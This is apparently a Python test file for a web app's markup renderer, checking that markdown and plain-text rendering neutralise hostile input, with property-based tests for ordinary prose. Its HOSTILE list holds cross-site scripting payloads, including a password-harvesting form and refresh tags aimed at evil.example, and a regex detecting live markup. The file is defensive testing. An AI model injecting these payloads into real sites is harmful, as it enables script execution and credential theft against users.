from __future__ import annotations

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from apps.kernel import markup

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD4=)",
    "[click](vbscript:msgbox)",
    "![x](javascript:alert(1))",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<iframe src=//evil.example></iframe>",
    "<object data=x></object><embed src=x>",
    "<style>body{background:url(//evil.example)}</style>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<form action=//evil.example><input name=password></form>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example>",
    "<!--<img src='--><img src=x onerror=alert(1)>",
    "`<script>`\n\n    <script>alert(1)</script>",
    "<details open ontoggle=alert(1)>",
]
_ALIVE = re.compile(
    r"<(script|iframe|object|embed|style|form|input|base|meta|link|svg|math|details)\b"
    r"|<[^>]*\son\w+=|(href|src)\s*=\s*[\"']?\s*(javascript|data|vbscript):|<[^>]*\sstyle=",
    re.IGNORECASE,
)


@pytest.mark.parametrize("form", ["markdown", "plain"])
@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_hostile_lives(text: str, form: markup.Format) -> None:
    assert not _ALIVE.search(markup.render(text, form))


@given(st.text())
def test_whatever_is_written_nothing_lives(text: str) -> None:
    for form in ("markdown", "plain"):
        assert not _ALIVE.search(markup.render(text, form))


def test_the_check_sees_what_is_alive() -> None:
    assert all(
        _ALIVE.search(text)
        for text in ("<script>", "<p onclick=x>", "<a href='javascript:x'>", "<p style='x'>")
    )


def test_markdown_is_shown_as_meant() -> None:
    html = markup.render("**b** _i_ `c`\n\n- one\n\n> q\n\n[l](https://example.com)", "markdown")

    for part in ("<strong>b</strong>", "<em>i</em>", "<code>c</code>", "<li>", "<blockquote>"):
        assert part in html
    assert 'href="https://example.com"' in html
    assert "nofollow" in html or "noopener" in html


def test_a_run_longer_than_any_address_is_not_searched_for_some() -> None:
    assert "<a " in markup.render("see http://a.de/x", "markdown")
    assert "<a " not in markup.render("http://a." * 5500, "markdown")


def test_plain_text_stays_as_it_was_written() -> None:
    html = markup.render("a *b*\n<c>", "plain")

    assert "*b*" in html
    assert "&lt;c&gt;" in html


# What prose is made of, and what must not be taken for it.
_ALPHABET = "ab Zé9ß中,;?'\u2019…%€\u2013—-.():\n!*_#>`+=|~&<[]\\/@\"\t\r\u00a0\u2028"
_PIECES = st.sampled_from(["www.", "http://", "a.de", "\n\n", "\n- ", "\n1. ", "---", "    "])


@given(st.lists(st.text(_ALPHABET, min_size=1, max_size=6) | _PIECES, max_size=12).map("".join))
def test_prose_takes_a_shorter_way_to_the_same(text: str) -> None:
    assert markup.render(text, "markdown") == markup.render_markdown(text)


@given(st.text("abc ,.\n-:(?)", min_size=1))
def test_much_that_is_written_is_prose(text: str) -> None:
    assert markup.render(f"a{text}", "markdown") == markup.render_markdown(f"a{text}")
